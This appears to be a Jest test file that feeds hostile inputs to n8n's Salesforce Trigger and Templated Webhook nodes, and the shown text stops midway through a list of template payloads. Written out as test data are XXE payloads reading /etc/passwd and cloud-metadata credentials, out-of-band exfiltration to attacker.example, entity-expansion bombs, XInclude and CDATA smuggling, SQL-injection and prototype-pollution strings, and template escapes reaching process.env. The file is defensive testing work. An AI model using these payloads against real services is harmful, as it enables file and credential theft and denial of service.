/**
 * Hostile input catalogue (issue #8, part A). Every case goes through the real entry point: the
 * Salesforce Trigger's webhook() via callWebhook (as n8n's webhook server calls it), the Templated
 * Webhook through runWorkflow (n8n-core's WorkflowExecute) with nock for HTTP and a fake resolver.
 * Each hostile case is refused with an answer or error that says what was wrong (no stack trace, no
 * secret) and starts nothing: no items from the trigger, no request from the Templated Webhook.
 * A few controls (marked so) show the boundary just inside the rules is accepted.
 */
import nock from 'nock';
import type { IDataObject, INodeParameters } from 'n8n-workflow';

import { captureLogs } from '../harness/capture-logs';
import { reachableText } from '../harness/reachable-text';
import type { WebhookCall } from '../harness/webhook';
import {
	callout,
	CAMPAIGN_EVENT,
	deliver,
	EXPECTED_ACK,
	LEAD,
	notificationId,
	ORG_15,
	ORG_18,
	outboundMessage,
	SESSION_ID,
	sign,
	SIGNING_SECRET,
	to18,
} from '../salesforce-trigger/fixtures';
import type { NotificationSpec } from '../salesforce-trigger/fixtures';
import { CONTACT, dnsFake, PUBLIC_IP, receiverFake, runWebhook, webhookParameters } from '../templated-webhook/fixtures';
import type { WebhookRun } from '../templated-webhook/fixtures';

/** Secrets that must never show: the session id (and its token part) and the callout secret. */
const SECRETS = [SESSION_ID, SESSION_ID.split('!')[1], SIGNING_SECRET, SIGNING_SECRET.slice(8, 28)];
/** An environment value a template escape would print if it reached `process.env`. */
const CANARY = 'canary-7f3a9c1e-env-value';
/** A stack frame ("at fn (file.ts:1:2)") or a source path: internals a refusal must not show. */
const STACK = /\n\s+at |\bat .*\(.*:\d+:\d+\)|\.ts:\d+|node_modules/;

let logged: string[] = [];
beforeAll(() => {
	process.env.CRM_RELAY_CANARY = CANARY;
});
afterAll(() => {
	delete process.env.CRM_RELAY_CANARY;
});
beforeEach(() => {
	// n8n's log lines are kept (and checked for secrets) instead of printed.
	logged = [];
	captureLogs(logged);
});
afterEach(() => jest.restoreAllMocks());

function expectClean(text: string) {
	expect(text).not.toMatch(STACK);
	for (const secret of [...SECRETS, CANARY]) expect(text).not.toContain(secret);
	// Nothing from a file an entity or XInclude pointed at.
	expect(text).not.toContain('root:x:0:0');
}

function expectMessage(text: string, message: string | RegExp) {
	if (typeof message === 'string') expect(text).toBe(message);
	else expect(text).toMatch(message);
}

/** Refused by the trigger: the status, a plain-text reason, no Ack, no execution, nothing remembered, one log line. */
function expectRefusedSoap(call: WebhookCall, statusCode: number, message: string | RegExp) {
	expect(call.response.statusCode).toBe(statusCode);
	expect(call.response.headers['content-type']).toBe('text/plain; charset=utf-8');
	expectMessage(call.response.body, message);
	expect(call.response.body.length).toBeLessThan(600);
	expect(call.response.body).not.toContain('<Ack>');
	expectClean(call.response.body);
	expect(call.response.written).toBe(true);
	expect(call.result).toEqual({ noWebhookResponse: true });
	expect(call.items).toBeUndefined();
	expect(call.staticData).toEqual({});
	expect(logged).toEqual([expect.stringContaining(`refused a delivery (${statusCode}): ${call.response.body}`)]);
	for (const line of logged) expectClean(line);
}

function expectRefusedJson(call: WebhookCall, statusCode: number, error: string) {
	expect(call.response.statusCode).toBe(statusCode);
	expect(call.response.headers['content-type']).toBe('application/json; charset=utf-8');
	expect(JSON.parse(call.response.body)).toEqual({ processed: false, error });
	expectClean(call.response.body);
	expect(call.result).toEqual({ noWebhookResponse: true });
	expect(call.items).toBeUndefined();
	expect(call.staticData).toEqual({});
	expect(logged).toEqual([expect.stringContaining(`refused a delivery (${statusCode}): ${error}`)]);
	for (const line of logged) expectClean(line);
}

/** A control: acknowledged with the exact Ack and `count` items. */
function expectAcked(call: WebhookCall, count: number) {
	expect(call.response.statusCode).toBe(200);
	expect(call.response.body).toBe(EXPECTED_ACK);
	expect(call.items?.[0]).toHaveLength(count);
}

// =================================================================================================
// Salesforce Trigger: Outbound Messages (SOAP)
// =================================================================================================

const XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>';
/** A genuine message from our org that carries a live session id (which must never be echoed). */
const base = outboundMessage([LEAD], { sessionId: SESSION_ID });
const OTHER_ORG = to18('00D5g000009ZzZz');
const fromOtherOrg = outboundMessage([LEAD], { sessionId: SESSION_ID, org: OTHER_ORG });

const DOCTYPE = 'The XML contains a DOCTYPE or ENTITY declaration; they are refused (Salesforce never sends them)';
const NOT_WELL_FORMED = /^The body is not well-formed XML: .{5,300} \(line \d+(, column \d+)?\)$/;
const NESTED = 'The XML was refused: it is nested deeper than 16 elements';
const NOT_UTF8 = 'The request body is not valid UTF-8; Salesforce outbound messages are UTF-8 XML';
const NOT_SOAP = 'The body is not a SOAP 1.1 envelope (http://schemas.xmlsoap.org/soap/envelope/)';
const NO_NOTIFICATIONS = 'The SOAP message has no <notifications> inside <Body>: it is not a Salesforce outbound message';
const WRONG_ORG = "The message comes from a Salesforce org other than the node's Organization ID";

/** The genuine message with a DTD after the XML declaration and `&ref;` in place of the first name. */
const withDtd = (dtd: string, firstName = 'Ada') => base.replace(XML_DECL, `${XML_DECL}\n${dtd}`).replace('>Ada<', `>${firstName}<`);
const inField = (xml: string) => base.replace('<sf:LeadSource>Web</sf:LeadSource>', xml);

function billionLaughs(): string {
	let entities = '<!ENTITY lol0 "lol">';
	for (let level = 1; level < 10; level++) entities += `<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`;
	return `<!DOCTYPE lolz [${entities}]>`;
}

/** A message of exactly `bytes` bytes (a Description field padded). */
function messageOfSize(bytes: number): string {
	const spec = (pad: string): NotificationSpec => ({ ...LEAD, fields: [...LEAD.fields, ['Description', pad]] });
	const empty = outboundMessage([spec('')]);
	return outboundMessage([spec('x'.repeat(bytes - Buffer.byteLength(empty)))]);
}

function notifications(count: number): NotificationSpec[] {
	return Array.from({ length: count }, (_, index) => ({ id: notificationId(index + 1), type: 'Lead', fields: [['Id', `00Q5g00000Ab${String(index).padStart(3, '0')}AAA`], ['Email', `n${index}@example.com`]] }));
}

const bytes = (...parts: Array<string | number[]>) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));
const [beforeAda, afterAda] = [base.slice(0, base.indexOf('>Ada<') + 1), base.slice(base.indexOf('>Ada<') + 4)];
const cut = (xml: string, marker: string, offset: number) => xml.slice(0, xml.indexOf(marker) + offset);

type OutboundCase = [name: string, body: string | Buffer, statusCode: number, message: string | RegExp, parameters?: INodeParameters];

const outboundCases: Record<string, OutboundCase[]> = {
	'DTDs and entities (XXE, expansion)': [
		['DOCTYPE with an internal entity used in a field', withDtd('<!DOCTYPE soapenv:Envelope [<!ENTITY who "Mallory">]>', '&who;'), 400, DOCTYPE],
		['external SYSTEM entity reading file:///etc/passwd', withDtd('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'), 400, DOCTYPE],
		[
			'external SYSTEM entity fetching an http URL (cloud metadata)',
			withDtd('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>', '&xxe;'),
			400,
			DOCTYPE,
		],
		['external PUBLIC entity', withDtd('<!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//A//B//EN" "http://attacker.example/x.dtd">]>', '&xxe;'), 400, DOCTYPE],
		['billion laughs (10 levels of 10)', withDtd(billionLaughs(), '&lol9;'), 400, DOCTYPE],
		['quadratic blowup (one 50 KB entity referenced 2,000 times)', withDtd(`<!DOCTYPE q [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(2000)), 400, DOCTYPE],
		['parameter entity loading a remote DTD', withDtd('<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>'), 400, DOCTYPE],
		[
			'parameter entities for out-of-band exfiltration',
			withDtd(
				'<!DOCTYPE x [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?d=%file;\'>"> %eval; %exfil;]>',
			),
			400,
			DOCTYPE,
		],
		['an external DTD subset (DOCTYPE SYSTEM)', withDtd('<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/soap.dtd">'), 400, DOCTYPE],
		['a DOCTYPE in mixed case', withDtd('<!DocType soapenv:Envelope [<!ENTITY x "y">]>'), 400, DOCTYPE],
		['a DOCTYPE inside the Body, after the root started', base.replace('<soapenv:Body>', '<soapenv:Body><!DOCTYPE x [<!ENTITY y "z">]>'), 400, DOCTYPE],
	],
	'XInclude and CDATA tricks': [
		[
			'XInclude of /etc/passwd in place of a field',
			inField('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
			400,
			'Notification 1 has the element <include> from the namespace "http://www.w3.org/2001/XInclude", not the object\'s namespace "urn:sobject.enterprise.soap.sforce.com"',
		],
		[
			'XInclude nested in a field value',
			inField('<sf:LeadSource><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></sf:LeadSource>'),
			400,
			'The field <LeadSource> holds nested elements; Salesforce sends plain values',
		],
		[
			'XInclude in place of the sObject',
			base.replace(/<sObject [\s\S]*<\/sObject>/, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://attacker.example/lead.xml"/>'),
			400,
			'The SOAP message has no <sObject> inside <Notification>: it is not a Salesforce outbound message',
		],
		[
			'CDATA closed early to smuggle a field into a value',
			inField('<sf:LeadSource><![CDATA[Web]]><sf:IsAdmin__c>true</sf:IsAdmin__c><![CDATA[x]]></sf:LeadSource>'),
			400,
			'The field <LeadSource> holds nested elements; Salesforce sends plain values',
		],
		['CDATA hiding a DOCTYPE', inField('<sf:LeadSource><![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>]]></sf:LeadSource>'), 400, DOCTYPE],
		['an unterminated CDATA section', inField('<sf:LeadSource><![CDATA[Web</sf:LeadSource>'), 400, NOT_WELL_FORMED],
		['the whole envelope wrapped in CDATA', `<![CDATA[${base.replace(XML_DECL, '')}]]>`, 400, NOT_WELL_FORMED],
		[
			'CDATA closing OrganizationId to slip in another org id',
			fromOtherOrg.replace(`<OrganizationId>${OTHER_ORG}</OrganizationId>`, `<OrganizationId>${OTHER_ORG}<![CDATA[</OrganizationId><OrganizationId>${ORG_15}]]></OrganizationId>`),
			403,
			WRONG_ORG,
		],
	],
	'size and depth': [
		['one byte over Max Body Size (2 KB)', messageOfSize(2049), 400, 'The request body is 2049 bytes, over the limit of 2048 bytes set in the node (Max Body Size)', { options: { maxBodyKb: 2 } }],
		['one byte over the default cap (1 MB)', messageOfSize(1024 * 1024 + 1), 400, 'The request body is 1048577 bytes, over the limit of 1048576 bytes set in the node (Max Body Size)'],
		['10,000 nested elements inside the Body', base.replace('<soapenv:Body>', `<soapenv:Body>${'<a>'.repeat(10_000)}`).replace('</soapenv:Body>', `${'</a>'.repeat(10_000)}</soapenv:Body>`), 400, NESTED],
		['10,000 nested elements inside a field', inField(`<sf:LeadSource>${'<sf:x>'.repeat(10_000)}Web${'</sf:x>'.repeat(10_000)}</sf:LeadSource>`), 400, NESTED],
		['10,000 nested elements as the whole document', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`, 400, NESTED],
		[
			'10,000 elements opened and never closed (the reply names 3, not 10,000)',
			'<a>'.repeat(10_000),
			400,
			"The body is not well-formed XML: it ends with 10000 elements not closed (innermost: <a>, <a>, <a>) (line 1, column 1)",
		],
		[
			'8,000 namespace declarations over 60,000 elements (was quadratic: exhausted the heap), from another org',
			fromOtherOrg
				.replace('<soapenv:Envelope ', `<soapenv:Envelope ${Array.from({ length: 8000 }, (_, i) => `xmlns:p${i}="urn:p:${i}"`).join(' ')} `)
				.replace('<ActionId>', `${'<x/>'.repeat(60_000)}<ActionId>`),
			403,
			WRONG_ORG,
		],
		['200,000 empty sibling elements, from another org', fromOtherOrg.replace('<ActionId>', `${'<x/>'.repeat(200_000)}<ActionId>`), 403, WRONG_ORG],
		[
			'30,000 attributes on one element, from another org',
			fromOtherOrg.replace('<soapenv:Body>', `<soapenv:Body ${Array.from({ length: 30_000 }, (_, i) => `a${i}=""`).join(' ')}>`),
			403,
			WRONG_ORG,
		],
		[
			'a 300 KB element name with an undeclared prefix (not echoed in full)',
			inField(`<zz:${'N'.repeat(300_000)}>x</zz:${'N'.repeat(300_000)}>`),
			400,
			`The element <zz:${'N'.repeat(77)}> uses the undeclared namespace prefix "zz"`,
		],
	],
	'truncated envelopes': [
		['cut inside the XML declaration', cut(base, 'encoding=', 3), 400, NOT_WELL_FORMED],
		['cut right after the first "<"', cut(base, '<soapenv:Envelope', 1), 400, NOT_WELL_FORMED],
		['cut inside an attribute value', cut(base, 'xmlns:xsi="', 15), 400, NOT_WELL_FORMED],
		['cut inside an element name', cut(base, '<notifications', 6), 400, NOT_WELL_FORMED],
		['cut inside an entity reference', cut(base, '&amp;', 3), 400, NOT_WELL_FORMED],
		['cut inside a CDATA section', cut(inField('<sf:LeadSource><![CDATA[Web & more]]></sf:LeadSource>'), '<![CDATA[', 12), 400, NOT_WELL_FORMED],
		['cut inside a comment', cut(base.replace('<soapenv:Body>', '<soapenv:Body><!-- a comment -->'), '<!-- a', 8), 400, NOT_WELL_FORMED],
		['cut before </notifications>', cut(base, '</notifications>', 0), 400, NOT_WELL_FORMED],
		['cut at half', base.slice(0, Math.floor(base.length / 2)), 400, NOT_WELL_FORMED],
		['cut before the last ">"', base.slice(0, -1), 400, NOT_WELL_FORMED],
		['cut in the middle of a two-byte UTF-8 character', bytes(beforeAda, [0xc3]), 400, NOT_UTF8],
	],
	'namespaces and structure': [
		['a SOAP 1.2 envelope', base.replace('http://schemas.xmlsoap.org/soap/envelope/', 'http://www.w3.org/2003/05/soap-envelope'), 400, NOT_SOAP],
		['an Envelope without any namespace', base.replace(/soapenv:/g, '').replace(' xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"', ''), 400, NOT_SOAP],
		['the wrong outbound namespace (2005/10)', base.replace('http://soap.sforce.com/2005/09/outbound', 'http://soap.sforce.com/2005/10/outbound'), 400, NO_NOTIFICATIONS],
		['notifications missing (empty Body)', base.replace(/<soapenv:Body>[\s\S]*<\/soapenv:Body>/, '<soapenv:Body/>'), 400, NO_NOTIFICATIONS],
		['no Body at all', base.replace(/soapenv:Body/g, 'soapenv:Header'), 400, 'The SOAP message has no <Body> inside <Envelope>: it is not a Salesforce outbound message'],
		['two Bodies', base.replace('</soapenv:Body>', '</soapenv:Body><soapenv:Body/>'), 400, 'The element <Body> appears 2 times inside <Envelope>; Salesforce sends it once'],
		['two envelopes (two roots)', base + base.replace(XML_DECL, ''), 400, NOT_WELL_FORMED],
		[
			'two OrganizationIds, ours second',
			fromOtherOrg.replace('<ActionId>', `<OrganizationId>${ORG_15}</OrganizationId><ActionId>`),
			400,
			'The element <OrganizationId> appears 2 times inside <notifications>; Salesforce sends it once',
		],
		['the Notifications moved into another namespace', base.replace(/<Notification>/g, '<Notification xmlns="urn:example:other">'), 400, 'The outbound message holds no <Notification>'],
		['an object type with an undeclared prefix', base.replace('xsi:type="sf:Lead"', 'xsi:type="zz:Lead"'), 400, 'Notification 1 names its object type with the undeclared namespace prefix "zz"'],
		['an object type whose prefix is an Object.prototype name', base.replace('xsi:type="sf:Lead"', 'xsi:type="constructor:Lead"'), 400, 'Notification 1 names its object type with the undeclared namespace prefix "constructor"'],
		[
			'a field under a namespace prefix named __proto__',
			inField('<__proto__:LeadSource xmlns:__proto__="urn:evil">Web</__proto__:LeadSource>'),
			400,
			'Notification 1 has the element <LeadSource> from the namespace "urn:evil", not the object\'s namespace "urn:sobject.enterprise.soap.sforce.com"',
		],
		['an object type that is not an API name', base.replace('xsi:type="sf:Lead"', 'xsi:type="sf:Lead;DROP"'), 400, 'Notification 1 has no valid xsi:type on <sObject> (the object type)'],
		['a notification Id that is not a Salesforce ID', base.replace(`<Id>${LEAD.id}</Id>`, "<Id>' OR 1=1 --</Id>"), 400, 'Notification 1 has an Id that is not a Salesforce ID'],
		['a __proto__ field', inField('<sf:__proto__><sf:polluted>yes</sf:polluted></sf:__proto__>'), 400, 'Notification 1 has a field named "__proto__", which is not a Salesforce field name'],
		['a SOAP fault instead of notifications', base.replace(/<notifications[\s\S]*<\/notifications>/, '<soapenv:Fault><faultcode>soapenv:Server</faultcode><faultstring>x</faultstring></soapenv:Fault>'), 400, NO_NOTIFICATIONS],
		['our own Ack posted back', EXPECTED_ACK, 400, NO_NOTIFICATIONS],
	],
	'notification count': [
		['101 notifications', outboundMessage(notifications(101)), 400, 'The outbound message holds 101 notifications; Salesforce sends at most 100'],
		['4,000 notifications under the size cap', outboundMessage(notifications(4000)), 400, 'The outbound message holds 4000 notifications; Salesforce sends at most 100'],
	],
	'Organization ID': [
		['another org (18 characters)', fromOtherOrg, 403, WRONG_ORG],
		['another org (15 characters)', outboundMessage([LEAD], { org: OTHER_ORG.slice(0, 15) }), 403, WRONG_ORG],
		['our 15 characters with a suffix that does not fit them', outboundMessage([LEAD], { org: `${ORG_15}AAA` }), 403, WRONG_ORG, { organizationId: ORG_18 }],
		['our 15 characters in another letter case', outboundMessage([LEAD], { org: ORG_15.toUpperCase() }), 403, WRONG_ORG],
		['a user id (005) instead of an org id', outboundMessage([LEAD], { org: '0055g000004SbXq' }), 403, WRONG_ORG],
		['an injection string', outboundMessage([LEAD], { org: "' or '1'='1" }), 403, WRONG_ORG],
		['an empty OrganizationId', base.replace(`<OrganizationId>${ORG_18}</OrganizationId>`, '<OrganizationId></OrganizationId>'), 400, '<OrganizationId> is empty'],
		['a nil OrganizationId', base.replace(`<OrganizationId>${ORG_18}</OrganizationId>`, '<OrganizationId xsi:nil="true"/>'), 400, '<OrganizationId> is empty'],
	],
	'encodings': [
		['an invalid byte (0xFF) in a field', bytes(beforeAda, [0xff], afterAda), 400, NOT_UTF8],
		['an overlong encoding of "<" (0xC0 0xBC)', bytes(beforeAda, [0xc0, 0xbc], afterAda), 400, NOT_UTF8],
		['a UTF-16 surrogate encoded as UTF-8 (0xED 0xA0 0x80)', bytes(beforeAda, [0xed, 0xa0, 0x80], afterAda), 400, NOT_UTF8],
		['a Latin-1 body declaring ISO-8859-1', Buffer.from(base.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace('>Ada<', '>Zoë<'), 'latin1'), 400, NOT_UTF8],
		['a UTF-16LE body with its byte order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(base.replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le')]), 400, NOT_UTF8],
	],
	'not XML at all': [
		['an empty body', '', 400, 'The request body is empty; Salesforce outbound messages are SOAP XML'],
		['white space only', '  \n\t ', 400, NOT_WELL_FORMED],
		['a JSON body sent to the XML endpoint', JSON.stringify({ OrganizationId: ORG_15, Notification: [{ Id: LEAD.id }] }), 400, NOT_WELL_FORMED],
		['a form-encoded body', `OrganizationId=${ORG_15}&Id=${LEAD.id}`, 400, NOT_WELL_FORMED],
		['an HTML page', '<html><body><h1>Hello</h1></body></html>', 400, NOT_SOAP],
	],
};

describe('Salesforce Trigger, Outbound Message: hostile bodies are refused and start nothing', () => {
	for (const [category, cases] of Object.entries(outboundCases)) {
		describe(category, () => {
			// A default for the optional last column keeps the arity at 4 (jest-each would take a 5th parameter for `done`).
			test.each(cases)('%s', async (_name, body, statusCode, message, parameters: INodeParameters = {}) => {
				expectRefusedSoap(await deliver(body, parameters), statusCode, message);
			});
		});
	}

	describe('controls: the boundaries just inside the rules are accepted', () => {
		test('exactly Max Body Size (2 KB) is accepted', async () => {
			expectAcked(await deliver(messageOfSize(2048), { options: { maxBodyKb: 2 } }), 1);
		});

		test('100 notifications are accepted: 100 items, one Ack', async () => {
			const call = await deliver(outboundMessage(notifications(100)));
			expectAcked(call, 100);
			expect(call.items?.[0].map((item) => item.json.notificationId)).toEqual(notifications(100).map((n) => n.id));
		});

		test.each([
			['15 configured, 18 received', ORG_15, ORG_18],
			['18 configured, 15 received', ORG_18, ORG_15],
			['15 configured, 15 received with surrounding white space', ORG_15, `\n  ${ORG_15}  \n`],
		])('Organization ID %s is accepted', async (_name, configured, received) => {
			expectAcked(await deliver(outboundMessage([LEAD], { org: received }), { organizationId: configured }), 1);
		});

		test('an XInclude outside the fields is never processed: the message is read as if it were not there', async () => {
			// The parser resolves no XInclude; an unknown element between the envelope values is skipped
			// (tolerated, as Salesforce may add envelope elements), so the fields are exactly the sent ones.
			const call = await deliver(base.replace('<ActionId>', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><ActionId>'));
			expectAcked(call, 1);
			expect(call.items?.[0][0].json.fields).toEqual((await deliver(base)).items?.[0][0].json.fields);
			expectClean(reachableText(call.items));
		});

		test('an entity reference without a DTD stays literal text (nothing is expanded or fetched)', async () => {
			const call = await deliver(base.replace('>Ada<', '>&xxe;&lol9;<'));
			expectAcked(call, 1);
			expect((call.items?.[0][0].json.fields as IDataObject).FirstName).toBe('&xxe;&lol9;');
		});
	});
});

// =================================================================================================
// Salesforce Trigger: JSON callouts
// =================================================================================================

const body = JSON.stringify(CAMPAIGN_EVENT);
const nowSeconds = () => Math.floor(Date.now() / 1000);
const TIMESTAMPED = { useTimestamp: true, timestampHeader: 'X-Timestamp', replayWindow: 300 };
const TOKEN = { verification: 'token', headerName: 'X-Salesforce-Token' };
const timed = (seconds: number, payload = body) => ({ 'X-Timestamp': String(seconds), 'X-Signature': sign(`${seconds}.${payload}`) });
const signed = (payload: string) => ({ 'X-Signature': sign(payload) });
const NOT_OBJECTS = 'The body must be a JSON object, or an array of 1 to 100 objects';
const MISMATCH = 'The x-signature signature does not match the body';
const MALFORMED = 'The x-signature header is not an HMAC-SHA256 in hex or base64';
const STALE = "The x-timestamp is more than 300 seconds away from n8n's clock (a replay, or a clock out of sync)";
const NOT_UNIX = 'The x-timestamp header is not a Unix time in seconds';

type CalloutCase = [name: string, rawBody: string, headers: () => Record<string, string>, statusCode: number, error: string, parameters?: INodeParameters];

const deepArray = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
const overSize = JSON.stringify({ ...CAMPAIGN_EVENT, campaign_name: 'x'.repeat(2048) });
const calloutCases: Record<string, CalloutCase[]> = {
	signature: [
		['no signature header', body, () => ({}), 401, 'The x-signature header is missing'],
		['an empty signature header', body, () => ({ 'X-Signature': '  ' }), 401, 'The x-signature header is missing'],
		['bad hex (a "z" among 64 characters)', body, () => ({ 'X-Signature': `${sign(body).slice(0, 63)}z` }), 403, MALFORMED],
		['hex one character short', body, () => ({ 'X-Signature': sign(body).slice(0, 63) }), 403, MALFORMED],
		['half a signature (the first 32 hex characters)', body, () => ({ 'X-Signature': sign(body).slice(0, 32) }), 403, MALFORMED],
		['a sha1= prefix', body, () => ({ 'X-Signature': `sha1=${sign(body)}` }), 403, MALFORMED],
		['bad base64 (an illegal "!")', body, () => ({ 'X-Signature': `${sign(body, SIGNING_SECRET, 'base64').slice(0, 42)}!=` }), 403, MALFORMED],
		['base64 of 31 bytes', body, () => ({ 'X-Signature': sign(body, SIGNING_SECRET, 'base64').slice(0, 40) }), 403, MALFORMED],
		['two signatures in one header', body, () => ({ 'X-Signature': `${sign(body)}, ${sign(body)}` }), 403, MALFORMED],
		['the shared secret itself as the signature', body, () => ({ 'X-Signature': SIGNING_SECRET }), 403, MALFORMED],
		['a signature of another body', body, () => signed(body.replace('Completed', 'Paused')), 403, MISMATCH],
		['a signature of the body plus a new line', body, () => signed(`${body}\n`), 403, MISMATCH],
		['a signature made with another secret', body, () => ({ 'X-Signature': sign(body, 'another-secret-of-the-same-length-000000000000000') }), 403, MISMATCH],
		['invalid JSON without a valid signature (nothing is parsed for strangers)', '{"a": ', () => signed('{}'), 403, MISMATCH],
	],
	'timestamp (Require Timestamp on)': [
		['a stale timestamp (301 s old)', body, () => timed(nowSeconds() - 301), 403, STALE, TIMESTAMPED],
		['a future timestamp (301 s ahead)', body, () => timed(nowSeconds() + 301), 403, STALE, TIMESTAMPED],
		['a timestamp in the year 2100', body, () => timed(4_102_444_800), 403, STALE, TIMESTAMPED],
		['no timestamp when one is required', body, () => signed(body), 401, 'The x-timestamp header is missing', TIMESTAMPED],
		['a timestamp in milliseconds', body, () => timed(Date.now()), 401, NOT_UNIX, TIMESTAMPED],
		['a negative timestamp', body, () => ({ 'X-Timestamp': '-5', 'X-Signature': sign(`-5.${body}`) }), 401, NOT_UNIX, TIMESTAMPED],
		['an ISO date as timestamp', body, () => ({ 'X-Timestamp': '2026-11-23T10:00:00Z', 'X-Signature': sign(`2026-11-23T10:00:00Z.${body}`) }), 401, NOT_UNIX, TIMESTAMPED],
		['a timestamp changed after signing', body, () => ({ ...timed(nowSeconds() - 10), 'X-Timestamp': String(nowSeconds()) }), 403, MISMATCH, TIMESTAMPED],
		['a signature of the body alone when a timestamp is required', body, () => ({ 'X-Timestamp': String(nowSeconds()), ...signed(body) }), 403, MISMATCH, TIMESTAMPED],
	],
	'shared token': [
		['no token header', body, () => ({}), 401, 'The x-salesforce-token header is missing', TOKEN],
		['a token with a trailing space', body, () => ({ 'X-Salesforce-Token': `${SIGNING_SECRET} ` }), 403, 'The x-salesforce-token header does not hold the shared secret', TOKEN],
		['half the token', body, () => ({ 'X-Salesforce-Token': SIGNING_SECRET.slice(0, 24) }), 403, 'The x-salesforce-token header does not hold the shared secret', TOKEN],
	],
	'body shape (correctly signed)': [
		['an empty body', '', () => signed(''), 400, 'The request body is empty'],
		['not JSON', 'event_type=campaign_updated', () => signed('event_type=campaign_updated'), 400, 'The body is not valid JSON: it cannot be parsed'],
		['XML', '<event/>', () => signed('<event/>'), 400, 'The body is not valid JSON: it cannot be parsed'],
		['truncated JSON', body.slice(0, 30), () => signed(body.slice(0, 30)), 400, 'The body is not valid JSON: error at position 30'],
		['an empty array', '[]', () => signed('[]'), 400, NOT_OBJECTS],
		['an array of arrays', `[[${body}]]`, () => signed(`[[${body}]]`), 400, NOT_OBJECTS],
		['an array of 101 events', `[${Array(101).fill(body).join(',')}]`, () => signed(`[${Array(101).fill(body).join(',')}]`), 400, NOT_OBJECTS],
		['null', 'null', () => signed('null'), 400, NOT_OBJECTS],
		['a number', '42', () => signed('42'), 400, NOT_OBJECTS],
		['a string', '"campaign_updated"', () => signed('"campaign_updated"'), 400, NOT_OBJECTS],
		['true', 'true', () => signed('true'), 400, NOT_OBJECTS],
		['100,000 nested arrays', deepArray, () => signed(deepArray), 400, NOT_OBJECTS],
		['a body over Max Body Size (refused before the signature is checked)', overSize, () => ({}), 400, `The request body is ${overSize.length} bytes, over the limit of 1024 bytes set in the node (Max Body Size)`, { jsonOptions: { maxBodyKb: 1 } }],
		['a body over the default 1 MB', 'x'.repeat(1024 * 1024 + 1), () => ({}), 400, 'The request body is 1048577 bytes, over the limit of 1048576 bytes set in the node (Max Body Size)'],
	],
};

describe('Salesforce Trigger, JSON callout: hostile callouts are refused and start nothing', () => {
	for (const [category, cases] of Object.entries(calloutCases)) {
		describe(category, () => {
			test.each(cases)('%s', async (_name, rawBody, headers, statusCode, error, parameters: INodeParameters = {}) => {
				expectRefusedJson(await callout(rawBody, headers(), parameters), statusCode, error);
			});
		});
	}

	describe('replays are acknowledged (so the sender stops) but start nothing', () => {
		test('the same signed callout again (same timestamp, body and signature)', async () => {
			const staticData: IDataObject = {};
			const headers = timed(nowSeconds());
			expect((await callout(body, headers, TIMESTAMPED, { staticData })).items?.[0]).toHaveLength(1);
			const replay = await callout(body, headers, TIMESTAMPED, { staticData });
			expect(replay.response.statusCode).toBe(200);
			expect(replay.response.body).toBe('{"processed":true}');
			expect(replay.items).toBeUndefined();
		});

		test('the same event id re-signed with a fresh timestamp', async () => {
			const staticData: IDataObject = {};
			const event = JSON.stringify({ ...CAMPAIGN_EVENT, event_id: 'evt-42' });
			expect((await callout(event, timed(nowSeconds() - 5, event), TIMESTAMPED, { staticData })).items?.[0]).toHaveLength(1);
			const replay = await callout(event, timed(nowSeconds(), event), TIMESTAMPED, { staticData });
			expect(replay.response.body).toBe('{"processed":true}');
			expect(replay.items).toBeUndefined();
		});
	});
});

// =================================================================================================
// Templated Webhook
// =================================================================================================

/** Records a request to any host at all: a refused URL must leave this empty. */
function anyHost() {
	const received: string[] = [];
	const scope = nock(/.*/).persist();
	for (const method of ['POST', 'PUT', 'PATCH', 'GET']) {
		scope.intercept(/.*/, method).reply(function () {
			received.push(`${this.req.method} ${String(this.req.headers.host)}${this.req.path}`);
			return [200, ''];
		});
	}
	return received;
}

/** Failed before anything was sent: the error names the item, nothing went out, no item left the node. */
function expectNothingSent(run: WebhookRun, received: unknown[], message: RegExp, itemIndex = 0) {
	expect(run.error?.message).toMatch(message);
	expect(run.error?.message.endsWith(`(item ${itemIndex})`)).toBe(true);
	expectClean(reachableText(run.error?.message));
	expect(received).toHaveLength(0);
	expect([...run.delivered, ...run.retryLater, ...run.dropped]).toHaveLength(0);
}

describe('Templated Webhook: item data is rendered as data, never as template code', () => {
	const payloads: Array<[string, string]> = [
		['a Jinja expression', '{{ 7*7 }}'],
		['a Jinja loop of 99,999,999', '{% for i in range(99999999) %}x{% endfor %}'],
		['a constructor escape', "{{ ''.constructor.constructor('return process.env')() }}"],
		['a macro calling itself', '{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}'],
		['a merge tag of another field', '{{ profile.email }}'],
		['comments, raw and whitespace control', '{# c #}{%- raw -%}{{- x -}}{% endraw %}'],
		['an n8n expression', '={{ $env.CRM_RELAY_CANARY }}{{ $json.secret }}'],
		['other template syntaxes', '${7*7} #{7*7} <%= 7*7 %> [[7*7]] {7*7}'],
		['a JSON break-out', '"}, "admin": true, "x": {"'],
		['quotes, backslashes, controls and separators', '\\"\u0000\n\r\t\u2028\u2029\\u0041'],
